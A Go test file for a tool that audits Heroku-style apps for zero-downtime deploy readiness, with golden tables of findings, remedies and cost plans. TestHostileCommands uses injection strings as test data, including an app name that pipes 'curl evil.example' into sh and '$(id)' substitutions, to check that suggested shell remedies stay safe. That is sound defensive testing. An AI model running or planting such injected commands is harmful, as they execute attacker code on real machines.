package audit

import (
	"cmp"
	"fmt"
	"strings"
	"testing"
	"time"

	"example.com/zdd/fleet"
	"example.com/zdd/fleet/fleettest"
	"example.com/zdd/internal/golden"
	"example.com/zdd/plan"
	"example.com/zdd/policy"
)

// rulesFor is the default policy's rules with one need changed.
func rulesFor(app fleet.App, need policy.Need) policy.Rules {
	rules := policy.Default().For(app)
	rules.SessionAffinity = need
	return rules
}

// The dimensions of the table. Each runtime is the beginning of a fleettest line.
var (
	runtimes = []string{
		"eco", "basic", "standard-1x", "performance-m", // Common Runtime by tier
		"private-m space=private", "private-m space=shield", "dyno-1c-0.5gb space=fir",
		"standard-9x", "quantum-1x space=private", // sizes of tomorrow
		"private-m", "standard-1x space=private", "dyno-1c-0.5gb", // what can't be
	}
	webs    = []string{"", "web=0", "web=1", "web=2", "web=3"}
	scalers = []string{"", "scaler=1-5", "scaler=2-5", "addon=judoscale:bronze", "scaler=?", "addons=?"}
	needs   = []policy.Need{policy.Required, policy.Optional, policy.Forbidden}
	flags   = []string{"", "affinity", "preboot", "affinity preboot", "features=?"}
)

func letter(o Outcome) string {
	return map[Outcome]string{Pass: "p", Fail: "F", NotApplicable: ".", Unknown: "?"}[o]
}

func mark(v Verdict) string {
	return map[Verdict]string{VerdictReady: "+", VerdictNotReady: "-", VerdictUnknown: "?", VerdictNotApplicable: "."}[v]
}

// TestChecks is every combination of runtime, quantity, scaler, features and need.
// Scalers that make no difference share a line. Maintenance changes no finding, and is
// tried on each.
func TestChecks(t *testing.T) {
	var out strings.Builder
	out.WriteString(`# Findings of dyno-tier, session-affinity, web-dynos, preboot (p pass, F fail, ? unknown, . not applicable), and the verdict after =
# (+ ready, - not ready, ? unknown, . not applicable). Policy wants 2 web dynos. Five columns for each need of session affinity:
# both features off, affinity on, preboot on, both on, features unread.
`)
	fmt.Fprintf(&out, "%-24s", "#")
	for _, need := range needs {
		fmt.Fprintf(&out, "%-37s", "| affinity "+need)
	}
	out.WriteString("| what scales the app\n")
	for _, runtime := range runtimes {
		fmt.Fprintf(&out, "%s\n", runtime)
		for _, web := range webs {
			var rows []string
			by := map[string][]string{}
			for _, scaler := range scalers {
				line := runtime + " " + web + " " + scaler
				var row strings.Builder
				for _, need := range needs {
					row.WriteString("| ")
					for _, flag := range flags {
						app := fleettest.App(line + " " + flag)
						report := Judge(app, rulesFor(app, need), app.ReadAt)
						for _, f := range report.Findings[:4] {
							row.WriteString(letter(f.Outcome))
						}
						row.WriteString("=" + mark(report.Verdict) + " ")

						closed := app
						closed.Maintenance = true
						if got := Judge(closed, rulesFor(closed, need), closed.ReadAt).Verdict; got != report.Verdict {
							t.Errorf("%s %s in maintenance: got %s, want %s", line, flag, got, report.Verdict)
						}
					}
				}
				if by[row.String()] == nil {
					rows = append(rows, row.String())
				}
				by[row.String()] = append(by[row.String()], cmp.Or(scaler, "nothing"))
			}
			for _, row := range rows {
				who := strings.Join(by[row], ", ")
				if len(by[row]) == len(scalers) {
					who = "any"
				}
				fmt.Fprintf(&out, "  %-22s%s| %s\n", cmp.Or(web, "no web"), row, who)
			}
		}
	}
	golden.Check(t, "testdata/checks.golden", trimLines(out.String()))
}

func trimLines(s string) string {
	lines := strings.Split(s, "\n")
	for i := range lines {
		lines[i] = strings.TrimRight(lines[i], " ")
	}
	return strings.Join(lines, "\n")
}

// TestStandingStill holds that an app with no running web process is never judged,
// whatever else is on or unread.
func TestStandingStill(t *testing.T) {
	for _, runtime := range runtimes {
		for _, web := range webs[:2] {
			for _, scaler := range scalers {
				for _, flag := range flags {
					line := runtime + " worker=2 webhooks=3 " + web + " " + scaler + " " + flag
					app := fleettest.App(line)
					for _, f := range Judge(app, rulesFor(app, policy.Required), app.ReadAt).Findings {
						if f.Outcome != NotApplicable {
							t.Errorf("%s: %s: got %s, want not-applicable", line, f.Check, f.Outcome)
						}
					}
				}
			}
		}
	}
}

func TestWarmup(t *testing.T) {
	var out strings.Builder
	out.WriteString("# The finding of jvm-warmup and the verdict of an app that is ready otherwise, by how its language shows.\n")
	fmt.Fprintf(&out, "%-68s%-34s%-34s%-34s%s\n", "#", "advice", "required", "advice, attested", "required, attested")
	for _, app := range []string{
		"runtime=Java", "runtime=Gradle", "runtime=Scala", "runtime=Clojure", "runtime=Kotlin", "runtime=Play", "runtime=Ruby", "runtime=JavaScript", "runtime=Node.js",
		"buildpack=heroku/java", "buildpack=heroku/jvm", "buildpack=heroku/gradle", "buildpack=heroku/scala", "buildpack=heroku/clojure", "buildpack=heroku/kotlin",
		"buildpack=https://github.com/heroku/heroku-buildpack-java.git", "buildpack=heroku/python", "buildpack=https://example.com/own",
		"buildpacks=?", "buildpacks=? command=java+-jar+app.jar", "buildpack=heroku/python command=sbt+run", "stack=container", "stack=container command=java+-jar+app.jar", "stack=cnb",
		"web=0 runtime=Java", "space=private runtime=Java",
	} {
		line := "standard-1x web=2 affinity preboot " + app
		if strings.Contains(app, "web=0") {
			line = "standard-1x " + app
		}
		if strings.Contains(app, "space=") {
			line = "private-m web=2 " + app
		}
		fmt.Fprintf(&out, "%-68s", app)
		for _, attested := range []bool{false, true} {
			for _, weight := range []policy.Weight{policy.WeightAdvice, policy.WeightRequired} {
				a := fleettest.App(line)
				rules := rulesFor(a, policy.Required)
				rules.JVMWarmup, rules.WarmupAttested, rules.AttestedBy = weight, attested, "shop"
				r := Judge(a, rules, a.ReadAt)
				fmt.Fprintf(&out, "%-34s", fmt.Sprintf("%s → %s", r.Findings[4].Outcome, r.Verdict))
			}
		}
		out.WriteString("\n")
	}
	golden.Check(t, "testdata/warmup.golden", trimLines(out.String()))
}

// TestReports shows whole reports as people get to read them.
func TestReports(t *testing.T) {
	var out strings.Builder
	for _, c := range []struct{ name, line, policy string }{
		{"all is well", "standard-2x web=3 worker=1 affinity preboot runtime=Ruby", ""},
		{"the usual beginner", "standard-1x web=1 worker=2 runtime=Java addon=heroku-postgresql:essential-0 addon=heroku-redis:mini command=bundle+exec+rails+db:migrate+&&+puma", ""},
		{"two dynos and nothing else", "standard-1x web=2", ""},
		{"basic, with a worker at 0", "basic web=1 worker=1 clock=0", ""},
		{"eco", "eco web=1", ""},
		{"Performance, the autoscaler's minimum too low", "performance-m web=3 scaler=1-5", ""},
		{"Performance, the autoscaler's minimum good", "performance-m web=3 scaler=2-5 affinity preboot", ""},
		{"Performance, fewer than the autoscaler's minimum", "performance-m web=1 scaler=2-5 affinity preboot", ""},
		{"a scaling add-on", "standard-2x web=3 affinity preboot addon=judoscale:bronze", ""},
		{"a scaling add-on, too few today", "standard-2x web=1 affinity preboot addon=hirefire:free", ""},
		{"Private Space", "private-m web=1 space=private", ""},
		{"Shield Space", "private-m web=3 space=shield", ""},
		{"Fir", "dyno-1c-0.5gb web=2 space=fir", ""},
		{"a space, and a policy that makes do with one", "private-m web=1 space=private", "requirements: {web_dynos: 1}"},
		{"that space, with enough for a rolling deploy", "private-m web=2 space=private", "requirements: {web_dynos: 1}"},
		{"a pipeline that could not be read, and an entry for one", "standard-1x web=2 affinity preboot pipeline=?", "apps: {\"pipeline:checkout\": {web_dynos: 4}}"},
		{"a pipeline whose name could not be read", "standard-1x web=2 affinity preboot unnamed=production", "apps: {\"pipeline:checkout\": {web_dynos: 4}}"},
		{"that pipeline, and enough for any entry", "standard-1x web=4 affinity preboot pipeline=?", "apps: {\"pipeline:checkout\": {web_dynos: 4}}"},
		{"that pipeline, and no entry for one", "standard-1x web=2 affinity preboot pipeline=?", ""},
		{"an autoscaler in such a space", "private-m web=3 scaler=1-4 space=private", "requirements: {web_dynos: 1}"},
		{"a restart under way", "standard-1x web=2 affinity preboot starting=20s starting=20s", ""},
		{"worker only", "standard-1x worker=3 webhooks=2", ""},
		{"web at 0", "standard-1x web=0 worker=1 affinity", ""},
		{"never released", "standard-1x new", ""},
		{"maintenance, a hand-over and a crash", "standard-1x web=2 affinity preboot maintenance released=2m crashed=web.1 crashed=worker.1", ""},
		{"a release that is not through", "standard-1x web=2 affinity release=pending", ""},
		{"nothing could be read", "standard-1x formation=? features=? sizes=? scaler=? addons=? release=? dynos=? buildpacks=? pipeline=?", ""},
		{"features unread", "standard-1x web=2 features=?", ""},
		{"autoscaler and add-ons unread", "performance-m web=1 affinity preboot scaler=? addons=?", ""},
		{"prices unread", "standard-1x web=1 affinity preboot sizes=?", ""},
		{"contract prices and a higher target", "standard-1x web=1 affinity", "requirements: {web_dynos: 3}\nprices: {standard-1x: 21.50}"},
		{"beyond the limit", "performance-l web=1 affinity", "limits: {monthly_increase: 100}"},
		{"affinity forbidden", "standard-1x web=1 affinity", "requirements: {session_affinity: forbidden}"},
		{"affinity optional", "standard-1x web=1", "requirements: {session_affinity: optional}"},
		{"warm-up required", "standard-1x web=2 affinity preboot runtime=Java", "requirements: {jvm_warmup: required}"},
		{"warm-up required and attested", "standard-1x web=2 affinity preboot runtime=Java", "requirements: {jvm_warmup: required}\napps: {\"sh*\": {warmup: attested}}"},
		{"a size of tomorrow", "standard-9x web=1", ""},
		{"a contradiction", "private-m web=1", ""},
	} {
		rules, err := policy.Parse("zdd.yml", []byte(c.policy))
		if err != nil {
			t.Fatal(err)
		}
		app := fleettest.App(c.line)
		fmt.Fprintf(&out, "== %s\n   %s\n", c.name, c.line)
		if c.policy != "" {
			fmt.Fprintf(&out, "   policy: %s\n", strings.ReplaceAll(c.policy, "\n", " "))
		}
		writeReport(&out, Judge(app, rules.For(app), app.ReadAt))
		out.WriteString("\n")
	}
	golden.Check(t, "testdata/reports.golden", trimLines(out.String()))
}

func writeReport(out *strings.Builder, r Report) {
	fmt.Fprintf(out, "%s\n", strings.ToUpper(string(r.Verdict)))
	for _, f := range r.Findings {
		weight := ""
		if !f.Required {
			weight = ", advice"
		}
		fmt.Fprintf(out, "  %s (%s%s): %s\n", f.Check, f.Outcome, weight, f.Evidence)
		if f.Remedy != "" {
			fmt.Fprintf(out, "      → %s\n", f.Remedy)
		}
	}
	for _, h := range r.Hazards {
		fmt.Fprintf(out, "  hazard %s: %s\n", h.ID, h.Text)
	}
	fmt.Fprintf(out, "  plan: %s", r.Plan.Outcome)
	if r.Plan.Options != (plan.Options{}) {
		fmt.Fprintf(out, " with size=%s", r.Plan.Options.Size)
	}
	out.WriteString("\n")
	for _, s := range r.Plan.Steps {
		fmt.Fprintf(out, "    %s: %s (%s)\n", s.Kind, s, amount(s.Cost.Difference))
	}
	for _, why := range r.Plan.Why {
		fmt.Fprintf(out, "    – %s\n", why)
	}
	for _, u := range r.Plan.Untouched {
		fmt.Fprintf(out, "    untouched: %s\n", u)
	}
	c := r.Plan.Cost
	fmt.Fprintf(out, "    cost: now %s, then %s, difference %s\n", amount(c.Now), amount(c.Then), amount(c.Difference))
	fmt.Fprintf(out, "    units: now %s, then %s, difference %s\n", units(c.Units.Now), units(c.Units.Then), units(c.Units.Difference))
}

func amount(v fleet.Value[fleet.Money]) string {
	if m, known := v.Get(); known {
		return m.String()
	}
	return "unknown (" + v.Why().Text + ")"
}

func units(v fleet.Value[float64]) string {
	if u, known := v.Get(); known {
		return fmt.Sprintf("%.2f", u)
	}
	return "unknown (" + v.Why().Text + ")"
}

// TestRemedies holds that everything that is not good says what to do, and that nothing
// else does.
func TestRemedies(t *testing.T) {
	for _, runtime := range runtimes {
		for _, web := range webs {
			for _, scaler := range scalers {
				for _, flag := range flags {
					line := runtime + " runtime=Java " + web + " " + scaler + " " + flag
					app := fleettest.App(line)
					for _, need := range needs {
						for _, f := range Judge(app, rulesFor(app, need), app.ReadAt).Findings {
							wants := f.Outcome == Fail || f.Outcome == Unknown
							if (f.Remedy != "") != wants || f.Evidence == "" || f.Article == "" || f.ReadAt != app.ReadAt {
								t.Fatalf("%s: %s is %s: got evidence %q, remedy %q", line, f.Check, f.Outcome, f.Evidence, f.Remedy)
							}
							if n := strings.Count(f.Evidence+f.Remedy, "`"); n%2 != 0 {
								t.Fatalf("%s: %s has %d backticks: %s %s", line, f.Check, n, f.Evidence, f.Remedy)
							}
						}
					}
				}
			}
		}
	}
}

// TestHostileCommands: a remedy is pasted into a shell, so that one that could carry more
// than its own command is in words.
func TestHostileCommands(t *testing.T) {
	for name, spoil := range map[string]func(*fleet.App){
		"app name":     func(a *fleet.App) { a.Name = "shop; curl evil.example | sh #" },
		"substitution": func(a *fleet.App) { a.Name = "$(id)" },
		"option":       func(a *fleet.App) { a.Name = "--app=other" },
		"process type": func(a *fleet.App) {
			processes, _ := a.Formation.Get()
			a.Formation = fleet.Known(append(processes, fleet.Process{Type: "x; id #", Quantity: 1, Size: processes[0].Size}))
		},
		"add-on": func(a *fleet.App) {
			a.AddOns = fleet.Known([]fleet.AddOn{{Service: "judoscale", Plan: "judoscale:$(id)"}})
		},
	} {
		for _, line := range []string{"basic web=1", "standard-1x web=1", "standard-1x web=3", "standard-1x web=2 affinity crashed=web.1", "standard-1x web=0"} {
			app := fleettest.App(line)
			spoil(&app)
			r := Judge(app, policy.Default().For(app), app.ReadAt)
			var said []string
			for _, f := range r.Findings {
				said = append(said, f.Remedy)
			}
			for _, h := range r.Hazards {
				said = append(said, h.Text)
			}
			for _, text := range append(said, r.Plan.Why...) {
				for i, piece := range strings.Split(text, "`") {
					if i%2 == 1 && strings.HasPrefix(piece, "heroku ") && strings.ContainsAny(piece, ";|$()#") || strings.Contains(piece, "--app --app") {
						t.Errorf("%s, %s: got the command %q", name, line, piece)
					}
				}
			}
		}
	}
	app := fleettest.App("basic web=1")
	app.Name = "shop; id"
	want := "By hand, first of all: move every process type to standard-1x in the dashboard."
	if got := Judge(app, policy.Default().For(app), app.ReadAt).Findings[0].Remedy; !strings.Contains(got, want) {
		t.Errorf("got %q, want %q in it", got, want)
	}
}

func TestSummaries(t *testing.T) {
	for _, c := range Checks() {
		if n := strings.Count(c.Summary, ". ") + 1; !strings.HasPrefix(c.Summary, "Passes ") || !strings.HasSuffix(c.Summary, ".") || n > 2 {
			t.Errorf("%s: got %q, want what passes and what fails in one or two sentences", c.ID, c.Summary)
		}
	}
}

func TestHostileNames(t *testing.T) {
	app := fleettest.App("standard-1x web=1 runtime=Java addon=judoscale:`x`<!channel>")
	app.Name = "a`b\n<!channel>"
	r := Judge(app, policy.Default().For(app), app.ReadAt.Add(time.Hour))
	for _, f := range r.Findings {
		if strings.Contains(f.Evidence+f.Remedy, "\n") || strings.Count(f.Remedy, "`")%2 != 0 {
			t.Errorf("%s: got %q %q", f.Check, f.Evidence, f.Remedy)
		}
	}
	for _, text := range append(r.Plan.Why, r.Plan.Untouched...) {
		if strings.Contains(text, "\n") || strings.Count(text, "`")%2 != 0 {
			t.Errorf("plan: got %q", text)
		}
	}
}
